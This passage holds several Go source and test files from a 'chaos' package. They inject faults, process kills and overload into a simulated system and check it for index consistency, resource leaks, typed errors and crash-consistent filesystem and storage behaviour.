				table := oracleTables[ixRand.Intn(len(oracleTables))]
				if _, err := indexed.Exec(fmt.Sprintf("DROP INDEX IF EXISTS ix_%s_%d", table, ixRand.Intn(nIndexes+1))); err != nil {
					rep.failf("op %d: drop index: %v", i, err)
				}
			} else {
				t := oracleTables[ixRand.Intn(len(oracleTables))]
				if _, err := indexed.Exec(randomIndexSQL(ixRand, t, nIndexes)); err != nil {
					rep.failf("op %d: create index: %v", i, err)
				}
				nIndexes++
			}
			if err := indexed.CheckIndexes(); err != nil {
				rep.failf("op %d: index consistency after DDL: %v", i, err)
			}
		}

		op := g.Next()
		sql := op.SQL()
		if op.Kind == OpSelect {
			rows, err := bare.Query(sql)
			ixRows, ixErr := indexed.Query(sql)
			if (err != nil) != (ixErr != nil) {
				rep.failf("op %d %q: bare err %v, indexed err %v", i, sql, err, ixErr)
				continue
			}
			if err != nil {
				continue
			}
			if d := diffRows(ixRows.Data, rows.Data); d != "" {
				rep.failf("op %d %q: indexed engine diverged: %s", i, sql, d)
			}
			continue
		}
		res, err := bare.Exec(sql)
		ixRes, ixErr := indexed.Exec(sql)
		if (err != nil) != (ixErr != nil) {
			rep.failf("op %d %q: bare err %v, indexed err %v", i, sql, err, ixErr)
			continue
		}
		if err != nil {
			continue
		}
		if res.RowsAffected != ixRes.RowsAffected {
			rep.failf("op %d %q: bare affected %d, indexed affected %d", i, sql, res.RowsAffected, ixRes.RowsAffected)
		}
	}

	// Final state: both engines dump identical rows, and every index on
	// the indexed engine matches a from-scratch rebuild.
	for _, t := range oracleTables {
		rows, err := bare.Query("SELECT _id, a, b, c FROM " + t + " ORDER BY _id")
		if err != nil {
			rep.failf("final dump %s: %v", t, err)
			continue
		}
		ixRows, err := indexed.Query("SELECT _id, a, b, c FROM " + t + " ORDER BY _id")
		if err != nil {
			rep.failf("final dump %s (indexed): %v", t, err)
			continue
		}
		if d := diffRows(ixRows.Data, rows.Data); d != "" {
			rep.failf("final state of %s diverged: %s", t, d)
		}
	}
	if err := indexed.CheckIndexes(); err != nil {
		rep.failf("final index consistency: %v", err)
	}

	rep.finish()
	return rep
}

// RunIndexFaultChecker injects faults into index builds and index
// maintenance while a workload runs, asserting after every injected
// failure that no partially-populated index is visible: failed CREATE
// INDEX statements publish nothing, and failed mutations leave tables
// and indexes mutually consistent.
func RunIndexFaultChecker(seed int64, opts CheckerOptions) *Report {
	if opts.Ops <= 0 {
		opts.Ops = 1000
	}
	rep := &Report{Engine: "indexfault", Seed: seed, Ops: opts.Ops}

	db := sqldb.Open()
	for _, t := range oracleTables {
		if _, err := db.Exec(createSQL(t)); err != nil {
			rep.failf("setup: %v", err)
			return rep
		}
	}
	ixRand := rand.New(rand.NewSource(seed + 3))
	nIndexes := 0
	// Pre-fault index set so maintenance faults have indexes to hit.
	for _, t := range oracleTables {
		if _, err := db.Exec(randomIndexSQL(ixRand, t, nIndexes)); err != nil {
			rep.failf("setup index: %v", err)
			return rep
		}
		nIndexes++
	}

	if opts.Script != nil {
		fault.EnableScript(opts.Script)
	} else {
		fault.Enable(seed+1,
			fault.Spec{Point: "sqldb.indexbuild", Prob: 0.3, Op: fault.OpError},
			fault.Spec{Point: "sqldb.indexmaint", Prob: 0.01, Op: fault.OpError},
		)
	}
	defer fault.Disable()

	// checkConsistent verifies table/index agreement with faults
	// suspended (the shadow rebuild would otherwise trip its own
	// injected faults).
	checkConsistent := func(i int, when string) {
		fault.Suspend()
		defer fault.Resume()
		if err := db.CheckIndexes(); err != nil {
			rep.failf("op %d: index inconsistency %s: %v", i, when, err)
		}
	}

	indexCount := func(table string) int {
		fault.Suspend()
		defer fault.Resume()
		infos, _ := db.TableIndexes(table)
		return len(infos)
	}

	g := NewGen(seed)
	for i := 0; i < opts.Ops && len(rep.Failures) < 10; i++ {
		if i > 0 && i%61 == 0 {
			// CREATE INDEX under fault injection: all-or-nothing.
			table := oracleTables[ixRand.Intn(len(oracleTables))]
			before := indexCount(table)
			_, err := db.Exec(randomIndexSQL(ixRand, table, nIndexes))
			nIndexes++
			after := indexCount(table)
			switch {
			case err == nil:
				if after != before+1 {
					rep.failf("op %d: successful CREATE INDEX not visible (%d -> %d)", i, before, after)
				}
			case errors.Is(err, fault.ErrInjected):
				if after != before {
					rep.failf("op %d: failed CREATE INDEX left a partial index visible (%d -> %d)", i, before, after)
				}
			default:
				rep.failf("op %d: unexpected CREATE INDEX error: %v", i, err)
			}
			checkConsistent(i, "after CREATE INDEX")
			continue
		}

		op := g.Next()
		sql := op.SQL()
		var err error
		if op.Kind == OpSelect {
			_, err = db.Query(sql)
		} else {
			_, err = db.Exec(sql)
		}
		if err != nil && !errors.Is(err, fault.ErrInjected) {
			// Workload statements can fail legitimately (duplicate PK,
			// COMMIT outside a transaction); only injected failures are
			// interesting here.
			continue
		}
		if err != nil {
			// A maintenance fault interrupted the statement mid-flight;
			// whatever prefix was applied, tables and indexes must agree.
			checkConsistent(i, "after injected fault")
		}
	}

	checkConsistent(opts.Ops, "at end of run")
	rep.finish()
	return rep
}
