// Kill-chaos engine: process-lifecycle supervision under random death.
//
// The engine boots a full system, runs a seeded random workload of
// launches, delegate forks, file writes, provider inserts, and app IPC,
// and kills processes at every lifecycle stage: between operations,
// mid-fork (zygote.spawn / zygote.assemble faults), mid-binder-call
// (a fault hook that crashes a random process before dispatch), and
// mid-COW-synthesis (cowproxy.synth faults). Apps can also crash
// themselves inside a transaction handler.
//
// Invariants checked:
//
//  1. Typed errors only: every initiator-facing operation either
//     succeeds or fails with a sentinel from the supervision layer
//     (ErrDeadProcess, ErrNoEndpoint, ErrCallTimeout,
//     ErrRestartBudgetExhausted, injected faults, permission errors,
//     ordinary fs errors). Raw internal errors are failures.
//  2. No leaks: after the run drains, live processes, mount
//     namespaces, union branches, Binder endpoints, COW delta tables
//     and views, and URI grants are all back at their baselines.
//  3. No hangs: the whole run completes under a watchdog deadline.
package chaos

import (
	"errors"
	"fmt"
	"io/fs"
	"math/rand"
	"sort"
	"sync/atomic"
	"time"

	"maxoid/internal/ams"
	"maxoid/internal/binder"
	"maxoid/internal/core"
	"maxoid/internal/fault"
	"maxoid/internal/intent"
	"maxoid/internal/kernel"
	"maxoid/internal/mount"
	"maxoid/internal/provider"
	"maxoid/internal/unionfs"
	"maxoid/internal/vfs"
	"maxoid/internal/zygote"
)

// KillOptions tune a kill-chaos run.
type KillOptions struct {
	Ops     int           // workload operations; 0 = 1200
	Timeout time.Duration // whole-run hang watchdog; 0 = 60s
}

// chaosApp is the workload app: it accepts transactions that echo,
// write through the instance's view, crash the instance, or stall past
// the ANR deadline.
type chaosApp struct {
	pkg  string
	kern *kernel.Kernel
}

func (a *chaosApp) Package() string { return a.pkg }

func (a *chaosApp) OnStart(ctx *ams.Context, in intent.Intent) error { return nil }

func (a *chaosApp) OnTransact(ctx *ams.Context, from binder.Caller, code string, data binder.Parcel) (binder.Parcel, error) {
	switch code {
	case "ping":
		return binder.Parcel{"pong": true}, nil
	case "write":
		p := ctx.DataDir() + "/" + data.String("name")
		if err := vfs.WriteFile(ctx.FS(), ctx.Cred(), p, data.Bytes("body"), 0o600); err != nil {
			return nil, err
		}
		return binder.Parcel{"ok": true}, nil
	case "crash":
		// Self-crash mid-transaction: the call entered before the death,
		// so it still completes; the caller's NEXT call fails typed.
		_ = a.kern.Crash(ctx.PID())
		return binder.Parcel{"crashed": true}, nil
	case "hang":
		// Exceed the ANR deadline; the watchdog must release the caller.
		time.Sleep(15 * time.Millisecond)
		return binder.Parcel{"woke": true}, nil
	}
	return nil, fmt.Errorf("chaos: unknown code %s", code)
}

// allowedLifecycleError reports whether an initiator-facing error is
// one of the typed sentinels the supervision layer is allowed to
// surface. Anything else is an invariant violation.
func allowedLifecycleError(err error) bool {
	for _, target := range []error{
		fault.ErrInjected,
		kernel.ErrDeadProcess,
		kernel.ErrNoSuchPID,
		kernel.ErrNetUnreachable,
		kernel.ErrPermissionDenied,
		binder.ErrNoEndpoint,
		binder.ErrCallTimeout,
		zygote.ErrRestartBudgetExhausted,
		ams.ErrNoActivity,
		ams.ErrNotInstalled,
		ams.ErrNestedDelegation,
		ams.ErrNoGrant,
		mount.ErrNoMount,
		fs.ErrNotExist,
		fs.ErrPermission,
		fs.ErrExist,
	} {
		if errors.Is(err, target) {
			return true
		}
	}
	return false
}

// RunKillChecker performs one seeded kill-chaos run.
func RunKillChecker(seed int64, opts KillOptions) *Report {
	if opts.Ops <= 0 {
		opts.Ops = 1200
	}
	if opts.Timeout <= 0 {
		opts.Timeout = 60 * time.Second
	}
	r := &Report{Engine: "kill", Seed: seed}
	done := make(chan struct{})
	go func() {
		defer close(done)
		runKill(seed, opts, r)
	}()
	select {
	case <-done:
	case <-time.After(opts.Timeout):
		r.failf("HANG: run did not complete within %v", opts.Timeout)
	}
	return r
}

func runKill(seed int64, opts KillOptions, r *Report) {
	// Leak baselines are deltas over package-global counters, so the
	// engine composes with whatever else ran in this process.
	baseNS := mount.Live()
	baseUnions := unionfs.Live()
	baseBranches := unionfs.LiveBranches()

	s, err := core.Boot(core.Options{})
	if err != nil {
		r.failf("boot: %v", err)
		return
	}
	defer s.Shutdown()
	s.AM.SetReclaimDomainOnExit(true)
	s.Router.SetCallTimeout(5 * time.Millisecond)
	s.Router.SetRetryPolicy(binder.RetryPolicy{Attempts: 3, Base: 100 * time.Microsecond, Max: time.Millisecond})
	// The production budget's windows (ms backoff, 500ms breaker
	// cooldown) would park every app for most of a sub-second chaos run
	// after a handful of crashes, starving the kill workload. Compress
	// the scale so restarts keep flowing while the budget path — backoff
	// rejections included — still gets exercised.
	s.Zygote.Budget().SetConfig(zygote.BudgetConfig{
		BackoffBase:      50 * time.Microsecond,
		BackoffMax:       500 * time.Microsecond,
		BreakerThreshold: 25,
		BreakerCooldown:  2 * time.Millisecond,
		QuietReset:       20 * time.Millisecond,
	})

	pkgs := []string{"alice", "bob", "carol"}
	for _, pkg := range pkgs {
		app := &chaosApp{pkg: pkg, kern: s.Kernel}
		manifest := ams.Manifest{
			Package: pkg,
			Filters: []intent.Filter{{Actions: []string{intent.ActionView}}},
		}
		if err := s.Install(app, manifest); err != nil {
			r.failf("install %s: %v", pkg, err)
			return
		}
	}
	baseEndpoints := s.Router.NumEndpoints()
	baseProcs := s.Kernel.LiveProcesses()

	var kills atomic.Int64
	s.Kernel.WatchDeaths(func(kernel.DeathEvent) { kills.Add(1) })

	// Three PRNG streams, all separate from the fault schedule's PRNG.
	// The split exists for reproducibility: rngOp draws exactly the op
	// tape (a fixed number of draws per workload step, gated on nothing),
	// so the sequence of operation KINDS is a pure function of the seed.
	// rngSel picks targets from live sets and rngKill drives the
	// mid-call kill hook — their draw counts depend on timing-sensitive
	// state (restart backoff, ANR watchdogs, async reaping), which is
	// why they must not share a stream with the tape.
	rngOp := rand.New(rand.NewSource(seed ^ 0x5deece66d))
	rngSel := rand.New(rand.NewSource(seed*0x9e3779b9 + 1))
	rngKill := rand.New(rand.NewSource(seed*0x85ebca6b + 2))

	// sortedProcs gives a deterministic view of the process table.
	sortedProcs := func() []*kernel.Process {
		procs := s.Kernel.Processes()
		sort.Slice(procs, func(i, j int) bool { return procs[i].PID < procs[j].PID })
		return procs
	}
	// killRandom ends one live process — half orderly kills, half
	// crashes (only crashes charge the restart budget). It runs both as
	// a workload action and as the mid-binder-call fault hook.
	killRandom := func() {
		procs := sortedProcs()
		if len(procs) == 0 {
			return
		}
		pid := procs[rngKill.Intn(len(procs))].PID
		if rngKill.Intn(2) == 0 {
			_ = s.Kernel.Kill(pid)
		} else {
			_ = s.Kernel.Crash(pid)
		}
	}

	fault.Enable(seed,
		fault.Spec{Point: "zygote.spawn", Prob: 0.02},
		fault.Spec{Point: "zygote.assemble", Prob: 0.03},
		fault.Spec{Point: "cowproxy.synth", Prob: 0.05},
		fault.Spec{Point: "binder.call", Prob: 0.03, Hook: killRandom},
	)
	defer fault.Disable()

	// ctxs are the instance handles the workload drives. Dead handles
	// are deliberately kept for a while — operations through them must
	// fail typed, never raw.
	var ctxs []*ams.Context
	liveCtx := func() *ams.Context {
		var live []*ams.Context
		for _, c := range ctxs {
			if c.Alive() {
				live = append(live, c)
			}
		}
		if len(live) == 0 {
			return nil
		}
		return live[rngSel.Intn(len(live))]
	}
	anyCtx := func() *ams.Context {
		if len(ctxs) == 0 {
			return nil
		}
		return ctxs[rngSel.Intn(len(ctxs))]
	}
	check := func(op string, err error) {
		if err != nil && !allowedLifecycleError(err) {
			r.failf("op %d (%s): raw internal error: %v", r.Ops, op, err)
		}
	}

	for i := 0; i < opts.Ops && len(r.Failures) == 0; i++ {
		r.Ops++
		// Exactly two rngOp draws per step, before any state-dependent
		// gate, so the op tape never desyncs between same-seed runs.
		p := rngOp.Float64()
		q := rngOp.Float64()
		switch {
		case p < 0.15: // launch an initiator
			r.OpTape = append(r.OpTape, 'L')
			pkg := pkgs[rngSel.Intn(len(pkgs))]
			ctx, err := s.Launch(pkg, intent.Intent{})
			check("launch "+pkg, err)
			if err == nil {
				ctxs = append(ctxs, ctx)
			}
		case p < 0.30: // launch a delegate
			r.OpTape = append(r.OpTape, 'D')
			app := pkgs[rngSel.Intn(len(pkgs))]
			initiator := pkgs[rngSel.Intn(len(pkgs))]
			if app == initiator {
				continue
			}
			ctx, err := s.LaunchAsDelegate(app, initiator, intent.Intent{})
			check(fmt.Sprintf("delegate %s^%s", app, initiator), err)
			if err == nil {
				ctxs = append(ctxs, ctx)
			}
		case p < 0.45: // write a file through an instance's view
			r.OpTape = append(r.OpTape, 'W')
			ctx := anyCtx()
			if ctx == nil {
				continue
			}
			name := fmt.Sprintf("%s/chaos-%d.txt", ctx.DataDir(), i)
			check("fs write", vfs.WriteFile(ctx.FS(), ctx.Cred(), name, []byte{byte(i)}, 0o600))
		case p < 0.58: // provider insert (delegates go through the COW proxy)
			r.OpTape = append(r.OpTape, 'I')
			ctx := anyCtx()
			if ctx == nil {
				continue
			}
			_, err := ctx.Resolver().Insert("content://user_dictionary/words",
				provider.Values{"word": fmt.Sprintf("w%d", i)})
			check("dict insert", err)
		case p < 0.72: // supervised IPC to a running instance
			r.OpTape = append(r.OpTape, 'C')
			ctx := liveCtx()
			if ctx == nil {
				continue
			}
			running := s.AM.Running()
			if len(running) == 0 {
				continue
			}
			target := running[rngSel.Intn(len(running))]
			code := "ping"
			switch {
			case q < 0.10:
				code = "crash"
			case q < 0.14:
				code = "hang"
			case q < 0.40:
				code = "write"
			}
			_, err := ctx.CallAppRetry(target, code, binder.Parcel{
				"name": fmt.Sprintf("ipc-%d", i), "body": []byte("x"),
			})
			check(fmt.Sprintf("call %s %s", target, code), err)
		case p < 0.87: // random kill or crash between operations
			r.OpTape = append(r.OpTape, 'K')
			procs := sortedProcs()
			if len(procs) == 0 {
				continue
			}
			pid := procs[rngSel.Intn(len(procs))].PID
			if rngSel.Intn(2) == 0 {
				check("kill", s.Kernel.Kill(pid))
			} else {
				check("crash", s.Kernel.Crash(pid))
			}
		case p < 0.94: // orderly stop of a running instance
			r.OpTape = append(r.OpTape, 'S')
			running := s.AM.Running()
			if len(running) == 0 {
				continue
			}
			t := running[rngSel.Intn(len(running))]
			s.AM.StopInstance(t.App, t.Initiator)
		default: // Clear-Vol on a random initiator
			r.OpTape = append(r.OpTape, 'V')
			check("clear-vol", s.ClearVol(pkgs[rngSel.Intn(len(pkgs))]))
		}
		// Forget stale handles now and then so the slice stays bounded.
		if len(ctxs) > 64 {
			var live []*ams.Context
			for _, c := range ctxs {
				if c.Alive() {
					live = append(live, c)
				}
			}
			ctxs = live
		}
	}

	// Drain: stop injecting, kill every remaining process, and give
	// timed-out "hang" handlers time to unwind before counting leaks.
	fault.Disable()
	for _, p := range sortedProcs() {
		_ = s.Kernel.Kill(p.PID)
	}
	time.Sleep(30 * time.Millisecond)
	r.Kills = int(kills.Load())

	if got := s.Kernel.LiveProcesses(); got != baseProcs {
		r.failf("leak: %d live processes, want %d", got, baseProcs)
	}
	if got := s.AM.NumRunning(); got != 0 {
		r.failf("leak: %d running instances after full kill", got)
	}
	if got := s.Router.NumEndpoints(); got != baseEndpoints {
		r.failf("leak: %d binder endpoints, want %d", got, baseEndpoints)
	}
	if got := s.AM.OutstandingGrants(); got != 0 {
		r.failf("leak: %d outstanding URI grants", got)
	}
	if got := mount.Live(); got != baseNS {
		r.failf("leak: %d live mount namespaces, want %d", got, baseNS)
	}
	if got := unionfs.Live(); got != baseUnions {
		r.failf("leak: %d live unions, want %d", got, baseUnions)
	}
	if got := unionfs.LiveBranches(); got != baseBranches {
		r.failf("leak: %d live union branches, want %d", got, baseBranches)
	}
	for _, pp := range []struct {
		name  string
		stats func() (int, int)
	}{
		{"user_dictionary", func() (int, int) {
			st := s.UserDict.Proxy().Stats()
			return st.DeltaTables, st.COWViews
		}},
		{"downloads", func() (int, int) {
			st := s.Downloads.Proxy().Stats()
			return st.DeltaTables, st.COWViews
		}},
		{"media", func() (int, int) {
			st := s.Media.Proxy().Stats()
			return st.DeltaTables, st.COWViews
		}},
	} {
		deltas, views := pp.stats()
		if deltas != 0 || views != 0 {
			r.failf("leak: %s proxy holds %d delta tables, %d COW views after all domains exited",
				pp.name, deltas, views)
		}
	}
	r.finish()
}
