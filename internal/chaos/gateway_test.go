package chaos

import (
	"testing"

	"maxoid/internal/testutil"
)

// TestGatewayChecker runs the gateway-chaos engine across seeds; every
// run must hold the confinement and typed-error invariants and leak
// nothing.
func TestGatewayChecker(t *testing.T) {
	defer testutil.LeakCheck(t)()
	for _, seed := range []int64{1, 7, 42} {
		rep := RunGatewayChecker(seed, GatewayChaosOptions{Ops: 300})
		if !rep.OK() {
			t.Fatalf("seed %d:\n%s", seed, joinFailures(rep.Failures))
		}
		if rep.Ops < 300 {
			t.Fatalf("seed %d: only %d ops ran", seed, rep.Ops)
		}
	}
}

// TestGatewayCheckerDefaultFires asserts the default-size run drives a
// meaningful injected-fault volume through the remote path.
func TestGatewayCheckerDefaultFires(t *testing.T) {
	defer testutil.LeakCheck(t)()
	rep := RunGatewayChecker(11, GatewayChaosOptions{})
	if !rep.OK() {
		t.Fatalf("seed 11:\n%s", joinFailures(rep.Failures))
	}
	if rep.Fired < 50 {
		t.Fatalf("default run fired only %d faults", rep.Fired)
	}
}

func joinFailures(fs []string) string {
	out := ""
	for _, f := range fs {
		out += "  " + f + "\n"
	}
	return out
}
