package chaos

import (
	"errors"
	"fmt"
	"math/rand"
	"strings"

	"maxoid/internal/fault"
	"maxoid/internal/unionfs"
	"maxoid/internal/vfs"
)

// CheckerOptions configure the crash-consistency checkers.
type CheckerOptions struct {
	Ops    int // workload operations (default 400)
	Script []fault.Fire
}

const copyUpFiles = 8

// copyUpContent builds a ~1KB payload so injected short writes leave a
// detectable truncation rather than a coincidentally complete file.
func copyUpContent(tag string, i, gen int) []byte {
	line := fmt.Sprintf("%s-%d-gen%d|", tag, i, gen)
	return []byte(strings.Repeat(line, 1024/len(line)+1))
}

// RunCopyUpChecker drives a union filesystem through copy-up, remove
// (whiteout) and re-create cycles while killing the multi-step
// transitions at injected points, asserting after every operation that
// the merged view is fully-old or fully-new — never truncated content,
// never a resurrected lower-branch file.
//
// Copy-up is triggered through metadata-only operations (Chmod/Chown),
// so the file's content must never change: any observed difference is
// a torn copy-up leaking into the merged view.
func RunCopyUpChecker(seed int64, opts CheckerOptions) *Report {
	if opts.Ops <= 0 {
		opts.Ops = 400
	}
	rep := &Report{Engine: "copyup", Seed: seed, Ops: opts.Ops}

	disk := vfs.New()
	for _, d := range []string{"/lower", "/upper"} {
		if err := disk.MkdirAll(vfs.Root, d, 0o755); err != nil {
			rep.failf("setup: %v", err)
			return rep
		}
	}
	// expected holds the merged-view content each file must show, nil
	// meaning the file must be absent.
	expected := make(map[string][]byte, copyUpFiles)
	for i := 0; i < copyUpFiles; i++ {
		name := fmt.Sprintf("/f%d", i)
		data := copyUpContent("lower", i, 0)
		if err := vfs.WriteFile(disk, vfs.Root, "/lower"+name, data, 0o644); err != nil {
			rep.failf("setup: %v", err)
			return rep
		}
		expected[name] = data
	}
	u, err := unionfs.New(unionfs.Options{},
		unionfs.Branch{FS: vfs.Sub(disk, "/upper"), Writable: true},
		unionfs.Branch{FS: vfs.Sub(disk, "/lower")},
	)
	if err != nil {
		rep.failf("setup: %v", err)
		return rep
	}

	if opts.Script != nil {
		fault.EnableScript(opts.Script)
	} else {
		fault.Enable(seed+1,
			fault.Spec{Point: "unionfs.copyup", Prob: 0.10, Op: fault.OpError},
			fault.Spec{Point: "unionfs.whiteout", Prob: 0.15, Op: fault.OpError},
			fault.Spec{Point: "vfs.write", Prob: 0.08, Op: fault.OpPartial},
			fault.Spec{Point: "vfs.rename", Prob: 0.08, Op: fault.OpError},
		)
	}
	defer fault.Disable()

	r := rand.New(rand.NewSource(seed))
	verify := func(i int, op, name string) {
		// Reads go through the union as an observer would; injection is
		// paused so verification itself cannot fail.
		fault.Suspend()
		defer fault.Resume()
		want := expected[name]
		got, err := vfs.ReadFile(u, vfs.Root, name)
		switch {
		case want == nil:
			if err == nil {
				rep.failf("op %d %s %s: file visible after remove (content %q...)", i, op, name, truncFor(got))
			} else if !errors.Is(err, vfs.ErrNotExist) {
				rep.failf("op %d %s %s: read failed with %v, want not-exist", i, op, name, err)
			}
		case err != nil:
			rep.failf("op %d %s %s: merged view lost the file: %v", i, op, name, err)
		case string(got) != string(want):
			rep.failf("op %d %s %s: MIXED view: got %d bytes %q..., want %d bytes %q...",
				i, op, name, len(got), truncFor(got), len(want), truncFor(want))
		}
	}

	gen := 1
	for i := 0; i < opts.Ops && len(rep.Failures) < 10; i++ {
		name := fmt.Sprintf("/f%d", r.Intn(copyUpFiles))
		switch n := r.Intn(100); {
		case n < 45: // metadata op: copy-up trigger, content must not change
			op := "chmod"
			var err error
			if r.Intn(2) == 0 {
				err = u.Chmod(vfs.Root, name, 0o640)
			} else {
				op = "chown"
				err = u.Chown(vfs.Root, name, 10000+r.Intn(4))
			}
			if err != nil && !errors.Is(err, fault.ErrInjected) && !errors.Is(err, vfs.ErrNotExist) {
				rep.failf("op %d %s %s: unexpected error %v", i, op, name, err)
			}
			verify(i, op, name)
		case n < 75: // remove: whiteout transition
			err := u.Remove(vfs.Root, name)
			switch {
			case err == nil:
				expected[name] = nil
			case errors.Is(err, fault.ErrInjected):
				// The injected kill may have landed before or after the
				// point of no return: accept fully-old or fully-new, and
				// update the expectation to what the view actually shows.
				fault.Suspend()
				if !vfs.Exists(u, vfs.Root, name) {
					expected[name] = nil
				}
				fault.Resume()
			case !errors.Is(err, vfs.ErrNotExist):
				rep.failf("op %d remove %s: unexpected error %v", i, name, err)
			}
			verify(i, "remove", name)
		default: // revive a removed file (workload scaffolding, not under test)
			if expected[name] != nil {
				continue
			}
			fault.Suspend()
			data := copyUpContent("revive", r.Intn(copyUpFiles), gen)
			gen++
			err := vfs.WriteFile(u, vfs.Root, name, data, 0o644)
			fault.Resume()
			if err != nil {
				rep.failf("op %d revive %s: %v", i, name, err)
				continue
			}
			expected[name] = data
			verify(i, "revive", name)
		}
	}

	rep.finish()
	return rep
}

func truncFor(b []byte) string {
	if len(b) > 24 {
		b = b[:24]
	}
	return string(b)
}
