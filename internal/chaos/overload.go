package chaos

import (
	"maxoid/internal/ams"
	"maxoid/internal/fault"
	"maxoid/internal/load"
)

// OverloadOptions shapes one overload-chaos run.
type OverloadOptions struct {
	Ops    int          // transactions to issue; 0 = 4000
	Script []fault.Fire // exact replay schedule (shrinker)
}

// RunOverloadChecker drives the fleet load engine through AMS
// admission control with injected admission faults (the "ams.admit"
// point) and checks the overload invariants:
//
//   - every failed transaction carries a typed ErrOverloaded, whether
//     it came from the token bucket, the in-flight ceiling, or an
//     injected admission fault — callers must never see an untyped
//     overload;
//   - admitted + rejected = issued (no transaction vanishes);
//   - the service processed exactly the admitted transactions;
//   - the admission controller's in-flight gauge drains to zero (a
//     leaked slot would eventually wedge admission entirely).
func RunOverloadChecker(seed int64, opts OverloadOptions) *Report {
	if opts.Ops <= 0 {
		opts.Ops = 4000
	}
	r := &Report{Engine: "overload", Seed: seed}

	if opts.Script != nil {
		fault.EnableScript(opts.Script)
	} else {
		fault.Enable(seed, fault.Spec{Point: "ams.admit", Prob: 0.05})
	}
	defer fault.Disable()
	defer r.finish()

	eng := load.NewEngine(64)
	res, err := eng.Run(load.Options{
		Instances: 64,
		Workers:   16,
		Ops:       opts.Ops,
		Batch:     1,
		Admission: &ams.AdmissionConfig{
			PerAppRate:  200,
			PerAppBurst: 4,
			MaxInFlight: 8,
		},
	})
	if err != nil {
		r.failf("run: %v", err)
		return r
	}
	r.Ops = int(res.Issued)

	if res.Untyped != 0 {
		r.failf("%d failures were not typed ErrOverloaded", res.Untyped)
	}
	if res.Completed+res.Rejected != res.Issued {
		r.failf("accounting: completed %d + rejected %d != issued %d",
			res.Completed, res.Rejected, res.Issued)
	}
	if res.ServiceOps != res.Completed {
		r.failf("service processed %d transactions, callers saw %d complete",
			res.ServiceOps, res.Completed)
	}
	if res.InFlightEnd != 0 {
		r.failf("admission leaked %d in-flight slots after drain", res.InFlightEnd)
	}
	if res.Rejected == 0 {
		r.failf("overload run rejected nothing: budget never bound")
	}
	return r
}
