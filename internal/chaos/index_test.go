package chaos

import (
	"reflect"
	"testing"
)

// TestIndexOracle is the ISSUE's acceptance check: 1000+ seeded
// statements run with and without randomly chosen secondary indexes
// and must produce row-for-row identical results.
func TestIndexOracle(t *testing.T) {
	for seed := int64(1); seed <= 5; seed++ {
		rep := RunIndexOracle(seed, OracleOptions{Ops: 1200})
		if !rep.OK() {
			t.Fatalf("seed %d: indexed engine diverged:\n%v", seed, rep.Failures)
		}
	}
}

func TestIndexFaultChecker(t *testing.T) {
	fired := 0
	for seed := int64(1); seed <= 5; seed++ {
		rep := RunIndexFaultChecker(seed, CheckerOptions{Ops: 1000})
		if !rep.OK() {
			t.Fatalf("seed %d: index fault discipline broke:\n%v", seed, rep.Failures)
		}
		fired += rep.Fired
	}
	if fired == 0 {
		t.Fatal("no index faults fired across any seed — checker is not exercising anything")
	}
}

func TestIndexEnginesDeterministic(t *testing.T) {
	a := RunIndexFaultChecker(7, CheckerOptions{Ops: 500})
	b := RunIndexFaultChecker(7, CheckerOptions{Ops: 500})
	if !reflect.DeepEqual(a.Trace, b.Trace) {
		t.Errorf("same seed produced different fault schedules (%d vs %d events)", len(a.Trace), len(b.Trace))
	}
	if !reflect.DeepEqual(a.Failures, b.Failures) {
		t.Errorf("same seed produced different verdicts: %v vs %v", a.Failures, b.Failures)
	}
	oa := RunIndexOracle(7, OracleOptions{Ops: 500})
	ob := RunIndexOracle(7, OracleOptions{Ops: 500})
	if !reflect.DeepEqual(oa.Failures, ob.Failures) {
		t.Errorf("index oracle not deterministic: %v vs %v", oa.Failures, ob.Failures)
	}
}
