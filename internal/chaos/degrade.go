// Degrade-chaos engine: storage health and degradation under injected
// transient and permanent faults.
//
// Phase 1 drives a seeded single-goroutine workload of filesystem
// writes and single-statement SQL batches over a durable environment
// (internal/wal over MemStorage) through seeded fault windows: bursts
// of transient append/fsync faults (absorbed by retry or exhausting
// the budget into read-only), permanent corruption (poisoning), scrub
// faults, and byte-level corruption of the on-disk WAL behind the
// store's back. Between and during windows the engine tracks three
// models in plain Go maps:
//
//	live     what the in-memory state must read as right now —
//	         including residue: mutations whose durability failed
//	         after memory changed (never acknowledged);
//	base     the durable state at the last crash/heal boundary;
//	tape     every WAL-appended op since base, with its LSN.
//
// Crashes rebuild the durable model as base + tape records at or below
// the recovered LSN and diff it against the recovered state; heals
// require memory and disk to agree (residue folded durably) and fold
// live into base.
//
// Phase 2 boots a full durable system and degrades it under a delegate
// workload, checking confinement: a degraded store rejects delegate
// writes with the typed gate error and never redirects them into base
// state, reads keep serving, admission control sheds write-class
// transactions, and the store provably heals.
//
// The five invariants (ISSUE 9):
//
//  1. No write acked without durability: every acknowledged op is at
//     or below the recovered LSN after any crash, and the recovered
//     state contains it.
//  2. Reads stay consistent throughout degradation: live reads always
//     match the live model, read-only or not.
//  3. Confinement holds while degraded: delegate writes are rejected,
//     never redirected into base state.
//  4. Typed errors only: every workload error is an injected fault, a
//     health/WAL sentinel, or an ordinary fs error.
//  5. The store provably returns to healthy: after every fault window
//     clears, heal (or crash recovery) restores Healthy and a write
//     succeeds.
package chaos

import (
	"errors"
	"fmt"
	"io/fs"
	"math/rand"
	"sort"
	"time"

	"maxoid/internal/ams"
	"maxoid/internal/binder"
	"maxoid/internal/core"
	"maxoid/internal/fault"
	"maxoid/internal/health"
	"maxoid/internal/intent"
	"maxoid/internal/provider"
	"maxoid/internal/testutil"
	"maxoid/internal/vfs"
	"maxoid/internal/wal"
)

// DegradeOptions tune a degrade-chaos run.
type DegradeOptions struct {
	Ops     int           // phase-1 workload operations; 0 = 4000
	Timeout time.Duration // whole-run hang watchdog; 0 = 120s
}

// RunDegradeChecker performs one seeded degrade-chaos run.
func RunDegradeChecker(seed int64, opts DegradeOptions) *Report {
	if opts.Ops <= 0 {
		opts.Ops = 4000
	}
	if opts.Timeout <= 0 {
		opts.Timeout = 120 * time.Second
	}
	r := &Report{Engine: "degrade", Seed: seed}
	done := make(chan struct{})
	go func() {
		defer close(done)
		runDegrade(seed, opts, r)
		if len(r.Failures) == 0 {
			runDegradeConfinement(seed, r)
		}
		// The engine re-arms fault.Enable per window (which resets the
		// registry trace), so Fired is accumulated by the run itself;
		// assert the default run drove a meaningful fault volume.
		if opts.Ops >= 4000 && len(r.Failures) == 0 && r.Fired < 300 {
			r.failf("only %d injected faults fired; the default run must drive >= 300", r.Fired)
		}
	}()
	select {
	case <-done:
	case <-time.After(opts.Timeout):
		r.failf("HANG: run did not complete within %v", opts.Timeout)
	}
	return r
}

